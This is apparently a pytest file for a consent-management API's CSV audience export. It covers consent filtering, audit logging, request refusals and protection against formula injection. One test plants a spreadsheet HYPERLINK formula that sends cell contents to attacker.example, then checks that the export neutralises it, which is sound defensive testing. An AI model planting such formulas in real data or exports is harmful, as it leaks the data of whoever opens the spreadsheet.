"""``POST /audiences``: the audience streamed as CSV, judged like decide(), cells inert, audited."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest
import sqlalchemy as sa

from garde.datasets import connect_datamap, load_datamap
from garde.shop import generate_shop
from tests.api_support import Client, api_client, audit_actors, bearer

ROOT = Path(__file__).resolve().parents[1]
Http = tuple[Client, dict[str, str]]
UPDATE = sa.text("UPDATE addresses SET street = :s WHERE id = :id")
FORMULA = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")"


@pytest.fixture(scope="module")
def shop(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """A small generated shop (shop and crm databases on SQLite), once for the module."""
    folder = tmp_path_factory.mktemp("shop")
    urls = {db: f"sqlite:///{folder / db}.db" for db in ("shop", "crm")}
    engines = connect_datamap(load_datamap(ROOT / "datasets"), urls, create=True)
    generate_shop(engines, 40, seed=7, as_of=date.today(), batch_size=50)
    for engine in engines.values():
        engine.dispose()
    return urls


@pytest.fixture
def client(shop: dict[str, str], sqlite_url: str,
           monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[Client, dict[str, str]]]:
    monkeypatch.setenv("GARDE_SHOP_URL", shop["shop"])
    monkeypatch.setenv("GARDE_CRM_URL", shop["crm"])
    with api_client(sqlite_url, datasets=ROOT / "datasets") as found:
        yield found


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_a_consent_audience_is_streamed_and_audited_with_the_key(client: Http, shop: dict[str, str],
                                                                 sqlite_url: str) -> None:
    http, keys = client
    service = bearer(keys["service"])
    crm = sa.create_engine(shop["crm"])
    with crm.connect() as conn:
        first, second = conn.execute(sa.text("SELECT email FROM newsletter_subscriptions ORDER BY id")
                                      ).scalars().all()[:2]
    crm.dispose()
    for address, action in ((first, "give"), (second, "withdraw")):
        assert http.post(f"/api/v1/consents/{action}", headers=service, json={
            "activity": "newsletter", "subject": {"email": address}, "channel": "email"}).status_code == 201
    answer = http.post("/api/v1/audiences", headers=service,
                       json={"activity": "newsletter", "channel": "email"})
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == 'attachment; filename="audience-newsletter-email.csv"'
    rows = _rows(answer.text)
    assert [(r["email"], r["basis"]) for r in rows] == [(first.lower(), "consent")]
    ids = http.post("/api/v1/audiences", headers=service, json={
        "activity": "newsletter", "channel": "email", "subject_ids": True})
    assert [r["basis"] for r in _rows(ids.text)] == ["consent"]
    assert list(_rows(ids.text)[0]) == ["subject_id", "basis"]
    assert audit_actors(sqlite_url, "audience") == ["key:service-key"] * 2


def test_the_csv_audience_cannot_carry_formulas(client: Http, shop: dict[str, str]) -> None:
    """A customer typed a formula as their street: the stream shows it as text, never a formula."""
    http, keys = client
    engine = sa.create_engine(shop["shop"])
    with engine.begin() as conn:
        (address_id, street) = conn.execute(sa.text(
            "SELECT a.id, a.street FROM addresses a JOIN customers c ON c.id = a.customer_id "
            "WHERE c.relationship_ended_at IS NULL ORDER BY a.id")).first() or (None, None)
        conn.execute(UPDATE, {"s": FORMULA, "id": address_id})
    try:
        answer = http.post("/api/v1/audiences", headers=bearer(keys["dpo"]),
                           json={"activity": "customer-relationship", "channel": "post"})
    finally:
        with engine.begin() as conn:
            conn.execute(UPDATE, {"s": street, "id": address_id})
        engine.dispose()
    assert answer.status_code == 200, answer.text
    cells = [cell for row in csv.reader(io.StringIO(answer.text)) for cell in row]
    assert "'" + FORMULA in cells
    assert not any(cell.lstrip()[:1] in ("=", "+", "-", "@", "\t", "\r")
                   and not cell.lstrip("+-").replace(".", "").isdigit() for cell in cells)


def test_refusals_come_before_the_stream(client: Http) -> None:
    http, keys = client
    service = bearer(keys["service"])
    unknown = http.post("/api/v1/audiences", headers=service,
                        json={"activity": "newsleter", "channel": "email"})
    assert unknown.status_code == 404 and "newsletter" in unknown.json()["detail"]
    no_address = http.post("/api/v1/audiences", headers=service,
                           json={"activity": "newsletter", "channel": "fax"})
    assert no_address.status_code == 400 and no_address.headers["content-type"] == "application/problem+json"
    assert http.post("/api/v1/audiences", headers=bearer(keys["agent"]),
                     json={"activity": "newsletter", "channel": "email"}).status_code == 403
